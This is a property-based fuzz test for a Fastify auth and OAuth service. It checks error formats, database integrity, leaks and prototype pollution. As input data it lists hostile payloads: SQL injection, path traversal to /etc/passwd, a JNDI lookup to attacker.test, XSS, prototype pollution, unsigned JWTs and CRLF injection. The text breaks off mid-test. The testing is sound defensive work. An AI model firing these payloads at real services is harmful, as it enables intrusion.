import { createHash, randomBytes } from 'node:crypto'
import t from 'tap'
import fc from 'fast-check'
import type { FastifyInstance, InjectOptions, LightMyRequestResponse } from 'fastify'
import type { Test } from 'tap'
import { createServiceClient } from '../../src/domain/clients/clients.js'
import type { DatabaseHandle } from '../../src/db/connect.js'
import { buildTestApp, openTestDatabase, uniqueEmail } from '../helper.js'
import { loginForTokens, registerUser } from '../support/auth-steps.js'

/*
 * Property-based fuzzing of every endpoint through app.inject.
 *
 * Whatever arrives — arbitrary JSON (with __proto__/constructor/prototype keys), raw bodies under
 * random content types, huge or non-ASCII Authorization and Cookie headers, random query strings
 * and path segments — the service:
 *   - never answers 5xx;
 *   - answers every /auth and operations error as application/problem+json {type,title,status,detail,code};
 *   - answers every /oauth error as RFC 6749 JSON {error, error_description}, never cached;
 *   - writes nothing on failure (users, sessions, refresh_tokens, oauth_clients are fingerprinted
 *     row by row; audit_events and login_throttles may legitimately change on failed logins);
 *   - leaves Object.prototype (and friends) unpolluted.
 *
 * FUZZ_RUNS (default 100) and FUZZ_SEED make runs longer or reproducible; each property also stops
 * after PROPERTY_TIME_LIMIT_MS so the file stays well under a minute.
 */

const RUNS = Number(process.env.FUZZ_RUNS ?? 100)
const SEED = process.env.FUZZ_SEED === undefined ? undefined : Number(process.env.FUZZ_SEED)
const PROPERTY_TIME_LIMIT_MS = Number(process.env.FUZZ_TIME_LIMIT_MS ?? 3_500)

// ---------------------------------------------------------------------------------------------
// Generators
// ---------------------------------------------------------------------------------------------

/** Every UTF-16 code unit, lone surrogates, NUL and other controls included (and favoured). */
const utf16Unit = fc.oneof(
  fc.integer({ min: 0, max: 0xffff }).map((code) => String.fromCharCode(code)),
  fc.constantFrom(
    '\u0000', '\u0001', '\b', '\u001f', '\u007f', '\u0085', '\ud800', '\udfff', '\u2028', '\ufeff', '\uffff', '\r\n'
  )
)

const NASTY_CONSTANTS = [
  '', ' ', '\u0000', 'a\u0000b@example.com', '%00', "' OR '1'='1", '"; DROP TABLE users; --', "admin'--",
  '../../../../etc/passwd', '..\\..\\windows\\win.ini', ['$', '{jndi:ldap://attacker.test/a}'].join(''), '{{7*7}}',
  '<script>alert(1)</script>',
  '\u202eevil', '\ud800', '\udfff\ud800', 'Ａｄｍｉｎ@ｅｘａｍｐｌｅ.ｃｏｍ', 'ﬃ', '😀'.repeat(300), 'a'.repeat(4097),
  'x'.repeat(20_000), '__proto__', 'constructor', 'prototype', 'null', 'undefined', 'NaN', '[object Object]',
  'eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZG1pbiJ9.', 'Bearer', 'refresh_token=', 'user@example.com\r\nBcc: x@y.z'
]

const nastyString = fc.oneof(
  { weight: 3, arbitrary: fc.string({ unit: 'binary', maxLength: 64 }) },
  { weight: 2, arbitrary: fc.string({ unit: utf16Unit, maxLength: 32 }) },
  { weight: 2, arbitrary: fc.constantFrom(...NASTY_CONSTANTS) },
  { weight: 1, arbitrary: fc.emailAddress() },
  { weight: 1, arbitrary: fc.stringMatching(/^[A-Za-z0-9_-]{43}$/) }
)

const INTERESTING_KEYS = [
  '__proto__', 'constructor', 'prototype', 'admin', 'isAdmin', 'polluted', 'role', 'toString', 'valueOf',
  'hasOwnProperty',
  '$where', '$ne', 'email', 'password', 'delivery', 'refreshToken', 'currentPassword', 'newPassword',
  'grant_type', 'refresh_token', 'client_id', 'client_secret', 'scope', 'token', 'token_type_hint', 'access_token'
]
const objectKey = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...INTERESTING_KEYS) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 12 }) }
)

const pollutionPayload = fc.constantFrom<unknown>(
  { admin: true },
  { isAdmin: true, polluted: 'yes' },
  { prototype: { admin: true } },
  { constructor: { prototype: { isAdmin: true } } }
)
const jsonLeaf = fc.oneof(nastyString, fc.jsonValue({ maxDepth: 2 }), pollutionPayload)

/**
 * Raw JSON text, built by hand so that objects can carry `__proto__` members and duplicate keys
 * (JSON.stringify of a JS object could produce neither).
 */
const rawJson = fc.letrec<{ value: string, object: string, array: string }>((tie) => ({
  value: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    jsonLeaf.map((leaf) => JSON.stringify(leaf)),
    tie('object'),
    tie('array')
  ),
  object: fc.array(fc.tuple(objectKey, tie('value')), { maxLength: 5 })
    .map((members) => `{${members.map(([key, value]) => `${JSON.stringify(key)}:${value}`).join(',')}}`),
  array: fc.array(tie('value'), { maxLength: 4 }).map((items) => `[${items.join(',')}]`)
})).object

const anythingJson = fc.anything({ maxDepth: 3 }).map((value) => JSON.stringify(value) ?? 'null')

const CONTENT_TYPES = [
  'application/json', 'application/json; charset=utf-8', 'APPLICATION/JSON', 'application/json; charset=utf-16',
  'application/json; charset=latin1', 'application/x-www-form-urlencoded',
  'application/x-www-form-urlencoded; charset=iso-8859-1',
  'text/plain', 'text/html', 'application/xml', 'multipart/form-data; boundary=----fuzz', 'application/octet-stream',
  'application/problem+json', 'application/vnd.api+json', 'application/jsonx', 'application/jwt', '*/*', ';;;',
  'application/json; boundary="', 'application/json, text/plain', 'json', 'application/'
]

/** What an HTTP/1.1 parser would hand over: the UTF-8 bytes read as latin1, no control characters. */
const wire = (value: string): string =>
  Buffer.from(value, 'utf8').toString('latin1').replace(/[^\t\x20-\x7e\x80-\xff]/g, '')

const contentType = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...CONTENT_TYPES) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }).map(wire) }
)

const rawPayload = fc.oneof(
  rawJson,
  fc.string({ unit: 'binary', maxLength: 200 }),
  fc.string({ unit: utf16Unit, maxLength: 100 }),
  fc.uint8Array({ maxLength: 300 }).map((bytes) => Buffer.from(bytes)),
  fc.constantFrom('', '{', '{"email":', 'null', '[]', '"string"', '1e999', '{"__proto__":{"admin":true}}',
    '{"constructor":{"prototype":{"isAdmin":true}}}', 'a=1&a=2&__proto__[admin]=1&constructor[prototype][isAdmin]=1',
    'token=%E0%A4%A&grant_type=%ZZ', '\ufeff{}', `{"email":"${'a'.repeat(17 * 1024)}"}`)
)

type Body =
  | { kind: 'none' }
  | { kind: 'json', text: string }
  | { kind: 'form', text: string }
  | { kind: 'raw', contentType: string | undefined, payload: string | Buffer }

const jsonBody = (text: fc.Arbitrary<string>): fc.Arbitrary<Body> => text.map((json) => ({ kind: 'json', text: json }))

/** Bodies that do not even try to be valid: arbitrary JSON, arbitrary bytes, arbitrary content types. */
const hostileBody: fc.Arbitrary<Body> = fc.oneof(
  { weight: 1, arbitrary: fc.constant<Body>({ kind: 'none' }) },
  { weight: 4, arbitrary: jsonBody(rawJson) },
  { weight: 2, arbitrary: jsonBody(anythingJson) },
  { weight: 2, arbitrary: jsonBody(fc.jsonValue().map((value) => JSON.stringify(value))) },
  {
    weight: 3,
    arbitrary: fc.record({ contentType: fc.option(contentType, { nil: undefined }), payload: rawPayload })
      .map(({ contentType, payload }): Body => ({ kind: 'raw', contentType, payload }))
  }
)

/** Percent-encode the UTF-8 bytes (lone surrogates become U+FFFD, as in a real client). */
const percentEncode = (value: string): string =>
  [...Buffer.from(value, 'utf8')]
    .map((byte) => /[A-Za-z0-9._~-]/.test(String.fromCharCode(byte))
      ? String.fromCharCode(byte)
      : `%${byte.toString(16).toUpperCase().padStart(2, '0')}`)
    .join('')

/** Printable ASCII as a sloppy client might put it in a URL unencoded (stray %, &, =, [ ] kept). */
const rawUrlText = (value: string): string => value.replace(/[^\x21-\x7e]|[#?]/g, '')

const formBody = (fields: fc.Arbitrary<Record<string, string>>): fc.Arbitrary<Body> =>
  fields.map((record) => ({
    kind: 'form',
    text: Object.entries(record).map(([key, value]) => `${percentEncode(key)}=${percentEncode(value)}`).join('&')
  }))

const bytesB64url = (value: string | Uint8Array): string => Buffer.from(value).toString('base64url')
const jwtLike = fc.tuple(rawJson, rawJson, fc.uint8Array({ maxLength: 80 }))
  .map(([header, payload, signature]) => `${bytesB64url(header)}.${bytesB64url(payload)}.${bytesB64url(signature)}`)

const headerText = fc.oneof(
  { weight: 4, arbitrary: nastyString },
  { weight: 2, arbitrary: fc.string({ unit: 'binary-ascii', maxLength: 100 }) },
  { weight: 1, arbitrary: fc.integer({ min: 1000, max: 12_000 }).map((length) => 'A'.repeat(length)) }
).map(wire)

const authorizationHeader = fc.oneof(
  headerText,
  headerText.map((value) => `Bearer ${value}`),
  jwtLike.map((jwt) => `Bearer ${jwt}`),
  fc.tuple(nastyString, nastyString)
    .map(([id, secret]) => `Basic ${Buffer.from(`${id}:${secret}`).toString('base64')}`),
  fc.string({ unit: 'binary', maxLength: 40 }).map((value) => `Basic ${Buffer.from(value).toString('base64')}`),
  fc.constantFrom('Bearer', 'Bearer ', 'bearer', 'BEARER a.b.c', 'Basic', 'Basic Og==', 'Basic ====', 'Digest x',
    'Bearer a.b.c', `Bearer ${'A'.repeat(5000)}.e30.`, 'Bearer eyJhbGciOiJub25lIn0.e30.',
    'Bearer eyJhbGciOiJIUzI1NiJ9.e30.AAAA', 'Bearer  x', 'Bearer\tx')
)

const cookieHeader = fc.oneof(
  headerText.map((value) => `refresh_token=${value}`),
  fc.tuple(headerText, headerText).map(([first, second]) => `refresh_token=${first}; refresh_token=${second}`),
  fc.stringMatching(/^[A-Za-z0-9_-]{43}$/).map((token) => `refresh_token=${token}`),
  fc.constantFrom('refresh_token=', 'refresh_token', '__proto__=x; constructor=y; prototype=z',
    'refresh_token=%E0%A4%A',
    'refresh_token="quoted"', ';;;=;', 'refresh_token=a; __proto__=b'),
  headerText
).map(wire)

const QUERY_KEYS = [
  'access_token', '__proto__', '__proto__[admin]', 'constructor[prototype][isAdmin]', 'prototype', 'refresh_token',
  'token', 'a'
]
const queryKey = fc.oneof(fc.constantFrom(...QUERY_KEYS), fc.string({ maxLength: 10 }))
const queryString = fc.array(fc.tuple(queryKey, nastyString, fc.boolean()), { maxLength: 5 })
  .map((pairs) => pairs.map(([key, value, encoded]) => encoded
    ? `${percentEncode(key)}=${percentEncode(value)}`
    : `${rawUrlText(key)}=${rawUrlText(value)}`).join('&'))

interface HostileHeaders {
  authorization?: string
  cookie?: string
  origin?: string
  'x-forwarded-for'?: string
  'x-request-id'?: string
  'user-agent'?: string
  'if-none-match'?: string
}

const hostileHeaders: fc.Arbitrary<HostileHeaders> = fc.record({
  authorization: authorizationHeader,
  cookie: cookieHeader,
  origin: fc.oneof(fc.constantFrom('http://issuer.test', 'http://evil.test', 'null', ''), headerText),
  'x-forwarded-for': fc.oneof(fc.ipV4(), fc.ipV6(), headerText),
  'x-request-id': headerText,
  'user-agent': headerText,
  'if-none-match': headerText
}, { requiredKeys: [] })

// ---------------------------------------------------------------------------------------------
// Oracles
// ---------------------------------------------------------------------------------------------

const LEAKS = [
  { name: 'a stack trace', pattern: /\bat [^\n]*\.(?:ts|js|mjs|cjs):\d+/ },
  {
    name: 'SQL',
    pattern: /\b(?:select [^"]* from|insert into|update [a-z_]+ set|syntax error at|violates [a-z ]+ constraint)\b/i
  },
  { name: 'an argon2 hash', pattern: /\$argon2/ }
]

function parseJson (response: LightMyRequestResponse): Record<string, unknown> | string {
  try {
    const body: unknown = JSON.parse(response.body)
    return typeof body === 'object' && body !== null && !Array.isArray(body)
      ? body as Record<string, unknown>
      : `not a JSON object: ${response.body.slice(0, 200)}`
  } catch {
    return `not JSON: ${response.body.slice(0, 200)}`
  }
}

/** What is wrong with any response, whatever the endpoint. */
function commonViolations (response: LightMyRequestResponse): string[] {
  const found: string[] = []
  if (response.statusCode >= 500) found.push(`answered ${response.statusCode}: ${response.body.slice(0, 300)}`)
  if (response.headers['x-content-type-options'] !== 'nosniff') found.push('no X-Content-Type-Options: nosniff')
  for (const leak of LEAKS) {
    if (leak.pattern.test(response.body)) found.push(`the body exposes ${leak.name}: ${response.body.slice(0, 300)}`)
  }
  return found
}

const verdict = (found: string[]): string | undefined => found.length === 0 ? undefined : found.join('; ')

function commonViolation (response: LightMyRequestResponse): string | undefined {
  return verdict(commonViolations(response))
}

/** /auth and operations endpoints: errors are RFC 9457 problem+json with our `code`. */
function problemViolation (response: LightMyRequestResponse): string | undefined {
  const found = commonViolations(response)
  if (response.statusCode < 400) return verdict(found)
  const type = String(response.headers['content-type'] ?? '')
  const excerpt = response.body.slice(0, 300)
  if (!type.startsWith('application/problem+json')) {
    found.push(`${response.statusCode} with content type "${type}" instead of application/problem+json: ${excerpt}`)
  }
  const body = parseJson(response)
  if (typeof body === 'string') return verdict([...found, body])
  if (typeof body.type !== 'string' || typeof body.title !== 'string' || typeof body.detail !== 'string') {
    found.push(`a problem without type/title/detail: ${excerpt}`)
  }
  if (body.status !== response.statusCode) {
    found.push(`problem status ${String(body.status)} differs from HTTP ${response.statusCode}`)
  }
  if (typeof body.code !== 'string' || !/^[a-z][a-z0-9_]*$/.test(body.code)) {
    found.push(`a problem without a snake_case code: ${excerpt}`)
  }
  const challenge = String(response.headers['www-authenticate'] ?? '')
  if (response.statusCode === 401 && body.code === 'invalid_token' && !/^Bearer /.test(challenge)) {
    found.push('invalid_token without a Bearer challenge')
  }
  if (response.statusCode === 429 && response.headers['retry-after'] === undefined) {
    found.push('429 without Retry-After')
  }
  return verdict(found)
}

/** /oauth endpoints: errors are RFC 6749 §5.2 JSON, never cached. */
function oauthViolation (response: LightMyRequestResponse): string | undefined {
  const found = commonViolations(response)
  if (response.statusCode < 400) return verdict(found)
  const type = String(response.headers['content-type'] ?? '')
  const excerpt = response.body.slice(0, 300)
  if (!type.startsWith('application/json')) {
    found.push(`${response.statusCode} with content type "${type}" instead of application/json: ${excerpt}`)
  }
  const body = parseJson(response)
  if (typeof body === 'string') return verdict([...found, body])
  if (typeof body.error !== 'string' || !/^[a-z_]+$/.test(body.error)) {
    found.push(`no RFC 6749 "error" code: ${excerpt}`)
  }
  if (typeof body.error_description !== 'string') found.push(`no error_description: ${excerpt}`)
  if (!String(response.headers['cache-control'] ?? '').includes('no-store')) {
    found.push('an OAuth error without Cache-Control: no-store')
  }
  return verdict(found)
}

// ---------------------------------------------------------------------------------------------
// Harness
// ---------------------------------------------------------------------------------------------

type Db = DatabaseHandle['db']

/** Every row of the tables a failed request must not touch (counts alone would miss an UPDATE). */
async function snapshot (db: Db): Promise<{ digest: string, counts: string }> {
  const users = await db.selectFrom('users')
    .select(['id', 'email', 'password_hash', 'updated_at', 'password_changed_at']).orderBy('id').execute()
  const sessions = await db.selectFrom('sessions')
    .select(['id', 'user_id', 'revoked_at', 'last_used_at', 'expires_at']).orderBy('id').execute()
  const refreshTokens = await db.selectFrom('refresh_tokens')
    .select(['id', 'session_id', 'token_hash', 'spent_at', 'replaced_by']).orderBy('id').execute()
  const clients = await db.selectFrom('oauth_clients')
    .select(['client_id', 'secret_hash', 'scope', 'revoked_at']).orderBy('client_id').execute()
  const digest = createHash('sha256').update(JSON.stringify({ users, sessions, refreshTokens, clients })).digest('hex')
  const counts = `users=${users.length} sessions=${sessions.length} refresh_tokens=${refreshTokens.length} ` +
    `oauth_clients=${clients.length}`
  return { digest, counts }
}

function injectOptions (
  method: InjectOptions['method'],
  url: string,
  body: Body,
  headers: HostileHeaders = {}
): InjectOptions {
  const allHeaders: Record<string, string> = {}
  for (const [name, value] of Object.entries(headers)) if (typeof value === 'string') allHeaders[name] = value
  switch (body.kind) {
    case 'none': return { method, url, headers: allHeaders }
    case 'json':
      return { method, url, payload: body.text, headers: { ...allHeaders, 'content-type': 'application/json' } }
    case 'form': {
      const formHeaders = { ...allHeaders, 'content-type': 'application/x-www-form-urlencoded' }
      return { method, url, payload: body.text, headers: formHeaders }
    }
    case 'raw': {
      const rawHeaders = body.contentType === undefined
        ? allHeaders
        : { ...allHeaders, 'content-type': body.contentType }
      return { method, url, payload: body.payload, headers: rawHeaders }
    }
  }
}

/** The path as the router sees it, after dot-segment normalisation. */
function routedPath (url: string): string {
  try {
    return new URL(`http://service.test${url}`).pathname
  } catch {
    return url.split('?')[0] ?? url
  }
}

const describeRequest = (options: InjectOptions): string => {
  const payload = options.payload === undefined ? '' : String(options.payload)
  const headers = Object.fromEntries(
    Object.entries(options.headers ?? {}).map(([name, value]) => [name, String(value).slice(0, 120)])
  )
  return `${String(options.method)} ${String(options.url).slice(0, 300)} ` +
    `headers=${JSON.stringify(headers)} body=${JSON.stringify(payload.slice(0, 300))}`
}

/**
 * Run one property. A failure is reported with fast-check's shrunk counterexample and seed (rerun
 * with FUZZ_SEED=<seed>); the file keeps going with the next property.
 */
async function property<T> (
  t: Test,
  name: string,
  arbitrary: fc.Arbitrary<T>,
  predicate: (input: T) => Promise<string | undefined>,
  runs = RUNS
): Promise<void> {
  await t.test(name, async (t) => {
    const started = Date.now()
    const details = await fc.check(fc.asyncProperty(arbitrary, async (input) => {
      const problem = await predicate(input)
      if (problem !== undefined) throw new Error(problem)
    }), {
      numRuns: runs,
      ...(SEED === undefined ? {} : { seed: SEED }),
      plugins: [fc.interruptAfterTimeLimit(PROPERTY_TIME_LIMIT_MS)]
    })
    if (details.failed) {
      const cause = details.errorInstance instanceof Error
        ? details.errorInstance.message
        : String(details.errorInstance)
      const full = fc.defaultReportMessage(details) ?? 'failed'
      const report = full.length > 2500 ? `${full.slice(0, 1500)} … ${full.slice(-700)}` : full
      t.fail(`${name}: ${cause.length > 1500 ? `${cause.slice(0, 1500)} …` : cause}`, {
        counterexample: report,
        seed: details.seed,
        path: details.counterexamplePath
      })
    } else {
      const interrupted = details.interrupted ? ' (time limit reached)' : ''
      t.pass(`${details.numRuns} runs in ${Date.now() - started} ms${interrupted}`)
    }
  })
}

// ---------------------------------------------------------------------------------------------
// The properties
// ---------------------------------------------------------------------------------------------

const prototypesBefore = {
  object: Object.getOwnPropertyNames(Object.prototype).sort(),
  array: Object.getOwnPropertyNames(Array.prototype).sort(),
  func: Object.getOwnPropertyNames(Function.prototype).sort()
}

t.test('fuzzing every endpoint with random and malicious input', async (t) => {
  const database = await openTestDatabase(t)
  const app: FastifyInstance = await buildTestApp(t, {}, { database })
  const db = database.db

  // A victim with a live session whose credentials the fuzzer never learns.
  const victimPassword = `fuzz-victim-${randomBytes(12).toString('hex')}`
  const victim = await registerUser(app, uniqueEmail('fuzz-victim'), victimPassword)
  const victimLogin = await loginForTokens(app, victim)
  const bystanderPassword = `fuzz-bystander-${randomBytes(12).toString('hex')}`
  const bystander = await registerUser(app, uniqueEmail('fuzz-bystander'), bystanderPassword)
  const bystanderLogin = await loginForTokens(app, bystander)
  const client = await createServiceClient(db, { name: 'fuzz', scope: 'read write' })
  const victimBearer = `Bearer ${String(victimLogin.accessToken)}`
  const clientBasic = `Basic ${Buffer.from(`${client.clientId}:${client.clientSecret}`).toString('base64')}`
  const secrets = [
    victimPassword,
    bystanderPassword,
    String(victimLogin.refreshToken),
    String(bystanderLogin.refreshToken),
    client.clientSecret
  ]

  const notASecret = (value: string): boolean => !secrets.some((secret) => value.includes(secret))
  /** A plausible email with one arbitrary UTF-16 unit (NUL, controls, lone surrogates…) slipped in. */
  const taintedEmail = fc.tuple(fc.emailAddress(), utf16Unit, fc.nat()).map(([email, unit, at]) => {
    const position = at % (email.length + 1)
    return `${email.slice(0, position)}${unit}${email.slice(position)}`
  })
  const emailish = fc.oneof(
    nastyString,
    taintedEmail,
    fc.constantFrom(victim.email, victim.email.toUpperCase(), ` ${victim.email} `, bystander.email)
  )
  const passwordish = fc.oneof(nastyString, fc.string({ unit: 'binary', minLength: 8, maxLength: 40 }))
    .filter(notASecret)

  /** Bodies shaped enough like the real thing to get past the schema into the handlers. */
  const plausibleAuthBody: fc.Arbitrary<Body> = fc.oneof(
    fc.record({ email: emailish, password: passwordish }),
    fc.record({
      email: emailish, password: passwordish, delivery: fc.oneof(fc.constantFrom('cookie', 'body'), nastyString)
    }),
    fc.record({ refreshToken: nastyString.filter(notASecret) }),
    fc.record({ currentPassword: passwordish, newPassword: passwordish })
  ).map((record): Body => ({ kind: 'json', text: JSON.stringify(record) }))

  const oauthFields = fc.record({
    grant_type: fc.oneof(
      fc.constantFrom(
        'refresh_token', 'client_credentials', 'password', 'authorization_code',
        'urn:ietf:params:oauth:grant-type:jwt-bearer'
      ),
      nastyString
    ),
    refresh_token: nastyString.filter(notASecret),
    token: fc.oneof(nastyString, jwtLike).filter(notASecret),
    token_type_hint: fc.oneof(fc.constantFrom('access_token', 'refresh_token'), nastyString),
    client_id: fc.oneof(
      fc.constant(client.clientId),
      nastyString,
      fc.tuple(nastyString, utf16Unit).map(([id, unit]) => `${id}${unit}`)
    ),
    client_secret: nastyString.filter(notASecret),
    scope: fc.oneof(fc.constantFrom('read', 'read write', 'admin', 'read admin'), nastyString)
  }, { requiredKeys: [] })
  const plausibleOAuthBody: fc.Arbitrary<Body> = fc.oneof(
    formBody(oauthFields),
    oauthFields.map((record): Body => ({ kind: 'json', text: JSON.stringify(record) }))
  )

  const before = await snapshot(db)
  t.comment(`fixtures: ${before.counts}`)

  /** Send, check the response format, and make sure a failure wrote nothing. */
  async function probe (
    options: InjectOptions,
    format: (response: LightMyRequestResponse) => string | undefined,
    mayWrite: (response: LightMyRequestResponse) => boolean = () => false
  ): Promise<string | undefined> {
    const beforeRequest = await snapshot(db)
    const response = await app.inject(options)
    const violation = format(response)
    if (violation !== undefined) return `${violation}\n  request: ${describeRequest(options)}`
    if (!mayWrite(response)) {
      const afterRequest = await snapshot(db)
      if (afterRequest.digest !== beforeRequest.digest) {
        const changed = `${beforeRequest.counts} → ${afterRequest.counts}`
        return `${response.statusCode} but the database changed (${changed})\n  request: ${describeRequest(options)}`
      }
    }
    return undefined
  }

  const AUTH_POSTS = [
    '/auth/register', '/auth/login', '/auth/refresh', '/auth/logout', '/auth/logout-all', '/auth/password'
  ] as const
  const registered = (response: LightMyRequestResponse): boolean => response.statusCode === 201

  await property(t,
    'POST /auth/*: hostile bodies, headers and query strings → never 5xx, problem+json errors, no writes on failure',
    fc.record({
      path: fc.constantFrom(...AUTH_POSTS),
      body: fc.oneof(hostileBody, plausibleAuthBody),
      headers: hostileHeaders,
      query: queryString
    }),
    async ({ path, body, headers, query }) =>
      await probe(
        injectOptions('POST', query === '' ? path : `${path}?${query}`, body, headers),
        problemViolation,
        path === '/auth/register' ? registered : undefined
      ))

  await property(t,
    'POST /auth/* with schema-shaped bodies → never 5xx, problem+json errors, no writes unless an account was created',
    fc.record({
      path: fc.constantFrom(...AUTH_POSTS),
      body: plausibleAuthBody,
      headers: fc.option(hostileHeaders, { nil: undefined })
    }),
    async ({ path, body, headers }) =>
      await probe(
        injectOptions('POST', path, body, headers),
        problemViolation,
        path === '/auth/register' ? registered : undefined
      ))

  await property(t,
    'POST /auth/password with a valid access token and hostile bodies → 4xx, password and sessions untouched',
    fc.oneof(hostileBody, plausibleAuthBody),
    async (body) => await probe(
      injectOptions('POST', '/auth/password', body, { authorization: victimBearer }),
      (response) => problemViolation(response) ??
        (response.statusCode < 400 ? `answered ${response.statusCode}` : undefined)
    ))

  await property(t,
    'GET /auth/me and /auth/sessions: hostile Authorization, Cookie and query → 401 invalid_token problem+json',
    fc.record({
      path: fc.constantFrom('/auth/me', '/auth/sessions'),
      headers: hostileHeaders,
      query: queryString
    }),
    async ({ path, headers, query }) => await probe(
      injectOptions('GET', query === '' ? path : `${path}?${query}`, { kind: 'none' }, headers),
      (response) => {
        const violation = problemViolation(response)
        if (violation !== undefined) return violation
        const code = parseJson(response)
        return response.statusCode === 401 && typeof code !== 'string' && code.code === 'invalid_token'
          ? undefined
          : `expected 401 invalid_token, got ${response.statusCode} ${response.body.slice(0, 200)}`
      }
    ))

  const SESSION_ID_CONSTANTS = [
    bystanderLogin.sessionId as string,
    String(bystanderLogin.sessionId).toUpperCase(),
    `${String(bystanderLogin.sessionId)} `,
    '..', '.', '../me', '../../etc/passwd', '..%2F..%2Fetc%2Fpasswd', '%2e%2e', '%00', '\u0000',
    '00000000-0000-0000-0000-000000000000',
    "' OR 1=1 --", '😀', 'ＵＵＩＤ', 'a'.repeat(65), 'a'.repeat(64), `${String(bystanderLogin.sessionId)}/..`,
    '*', '%', '%E0%A4%A'
  ]
  const sessionId = fc.oneof(fc.uuid(), nastyString, fc.constantFrom(...SESSION_ID_CONSTANTS))
    .filter((id) => !id.toLowerCase().includes(String(victimLogin.sessionId)))

  await property(t,
    'DELETE /auth/sessions/:id with a valid token and random ids (traversal, unicode, ' +
      'others\' ids) → 400/404 problem+json, nothing revoked',
    fc.record({ id: sessionId, encoded: fc.boolean() }),
    async ({ id, encoded }) => {
      const url = `/auth/sessions/${encoded ? percentEncode(id) : rawUrlText(id)}`
      return await probe(
        injectOptions('DELETE', url, { kind: 'none' }, { authorization: victimBearer }),
        (response) => problemViolation(response) ?? ([400, 404].includes(response.statusCode)
          ? undefined
          : `expected 400 or 404, got ${response.statusCode} for ${url}`)
      )
    })

  await property(t, 'DELETE /auth/sessions/:id with hostile headers → never 5xx, problem+json, nothing revoked',
    fc.record({ id: sessionId, headers: hostileHeaders, query: queryString }),
    async ({ id, headers, query }) => {
      const url = `/auth/sessions/${percentEncode(id)}${query === '' ? '' : `?${query}`}`
      return await probe(injectOptions('DELETE', url, { kind: 'none' }, headers), problemViolation)
    })

  const OAUTH_POSTS = ['/oauth/token', '/oauth/revoke', '/oauth/introspect'] as const

  await property(t,
    'POST /oauth/*: hostile bodies, client credentials and headers → never 5xx, RFC 6749 JSON errors, no writes',
    fc.record({
      path: fc.constantFrom(...OAUTH_POSTS),
      body: fc.oneof(hostileBody, plausibleOAuthBody),
      headers: hostileHeaders,
      query: queryString
    }),
    async ({ path, body, headers, query }) =>
      await probe(injectOptions('POST', query === '' ? path : `${path}?${query}`, body, headers), oauthViolation))

  await property(t,
    'POST /oauth/* with form/JSON parameters that pass the schema → never 5xx, RFC 6749 JSON errors, no writes',
    fc.record({
      path: fc.constantFrom(...OAUTH_POSTS),
      body: plausibleOAuthBody,
      basic: fc.option(fc.constant(clientBasic), { nil: undefined })
    }),
    async ({ path, body, basic }) =>
      await probe(
        injectOptions('POST', path, body, basic === undefined ? {} : { authorization: basic }),
        oauthViolation
      ))

  await property(t,
    'POST /oauth/introspect by an authenticated client: any token string → 200 {active:false} ' +
      '(or 400/413 when too long)',
    fc.oneof(nastyString, jwtLike, fc.stringMatching(/^[A-Za-z0-9_-]{43}$/))
      .filter((token) => token !== '' && notASecret(token)),
    async (token) => await probe({
      method: 'POST',
      url: '/oauth/introspect',
      payload: new URLSearchParams({ token }).toString(),
      headers: { 'content-type': 'application/x-www-form-urlencoded', authorization: clientBasic }
    }, (response) => {
      const violation = oauthViolation(response)
      if (violation !== undefined) return violation
      // Over the parameter limit: 400; over the 16 KiB body limit: 413. Never active.
      if ((response.statusCode === 400 || response.statusCode === 413) && token.length > 4096) return undefined
      const body = parseJson(response)
      return response.statusCode === 200 && typeof body !== 'string' && body.active === false &&
        Object.keys(body).length === 1
        ? undefined
        : `expected 200 {"active":false}, got ${response.statusCode} ${response.body.slice(0, 200)}`
    }))

  await property(t, 'GET /.well-known/jwks.json with random query and headers → 200 with public keys only',
    fc.record({ headers: hostileHeaders, query: queryString }),
    async ({ headers, query }) => await probe(
      injectOptions('GET', `/.well-known/jwks.json${query === '' ? '' : `?${query}`}`, { kind: 'none' }, headers),
      (response) => {
        const violation = commonViolation(response)
        if (violation !== undefined) return violation
        // If-None-Match: * matches any current representation (RFC 9110 §13.1.2).
        if (response.statusCode === 304 && headers['if-none-match'] !== undefined && response.body === '') {
          return undefined
        }
        if (response.statusCode !== 200) return `expected 200 (or 304 to an If-None-Match), got ${response.statusCode}`
        const body = parseJson(response)
        if (typeof body === 'string' || !Array.isArray(body.keys) || body.keys.length === 0) {
          return `no keys: ${response.body.slice(0, 200)}`
        }
        for (const key of body.keys as Array<Record<string, unknown>>) {
          for (const member of ['d', 'p', 'q', 'dp', 'dq', 'qi', 'k']) {
            if (member in key) return `a published key carries the private member "${member}"`
          }
        }
        return undefined
      }
    ))

  const METHODS: Array<InjectOptions['method']> = ['GET', 'POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS', 'HEAD']
  const KNOWN_PATHS = [
    '/auth/register', '/auth/login', '/auth/refresh', '/auth/logout', '/auth/logout-all', '/auth/password',
    '/auth/me', '/auth/sessions',
    '/oauth/token', '/oauth/revoke', '/oauth/introspect', '/.well-known/jwks.json', '/.well-known/openid-configuration',
    '/health/live', '/health/ready', '/metrics', '/docs/json', '/auth/../auth/me', '//auth//me', '/auth/me/',
    '/AUTH/ME', '/auth/me%00',
    '/%2e%2e/%2e%2e/etc/passwd', '/auth/%2e%2e/oauth/token', '/auth/sessions/%2F', '/auth/me;jsessionid=1',
    '/oauth/token/', '/.well-known/'
  ]
  const anyPath = fc.oneof(
    fc.constantFrom(...KNOWN_PATHS),
    fc.webPath().map((path) => path.startsWith('/') ? path : `/${path}`),
    fc.array(
      fc.oneof(nastyString, fc.constantFrom('auth', 'oauth', 'me', 'sessions', '..', '.', '%2e%2e', '%ZZ', '%E0%A4%A')),
      { minLength: 1, maxLength: 4 }
    )
      .map((segments) =>
        `/${segments.map((segment) => segment.startsWith('%') ? segment : percentEncode(segment)).join('/')}`)
  )

  await property(t,
    'any method on any path with hostile headers → never 5xx; /auth and operations errors ' +
      'are problem+json, /oauth errors RFC 6749 JSON',
    fc.record({
      method: fc.constantFrom(...METHODS),
      path: anyPath,
      query: queryString,
      headers: hostileHeaders,
      body: fc.oneof(fc.constant<Body>({ kind: 'none' }), hostileBody)
    }),
    async ({ method, path, query, headers, body }) => {
      const url = query === '' ? path : `${path}?${query}`
      const sent: Body = method === 'GET' || method === 'HEAD' ? { kind: 'none' } : body
      const options = injectOptions(method, url, sent, headers)
      return await probe(options, (response) => {
